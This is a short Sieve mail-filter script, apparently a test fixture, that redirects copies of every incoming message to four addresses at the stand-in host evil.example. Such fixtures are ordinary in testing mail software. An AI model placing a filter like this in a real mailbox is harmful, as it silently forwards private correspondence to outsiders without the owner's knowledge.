require "copy";
redirect :copy "a@evil.example"; redirect :copy "b@evil.example";
redirect :copy "c@evil.example"; redirect :copy "d@evil.example";
